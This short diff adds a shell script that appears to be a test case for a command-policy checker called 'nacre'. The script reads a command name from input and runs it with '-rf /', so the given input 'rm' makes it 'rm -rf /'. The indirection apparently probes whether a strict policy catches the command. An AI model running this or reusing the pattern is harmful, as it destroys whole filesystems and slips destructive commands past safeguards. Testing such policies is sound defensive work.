@@ -1,0 +1,5 @@
+# nacre: language policy.command
+# policy: strict
+# input: rm
+read -r x
+command $x -rf /
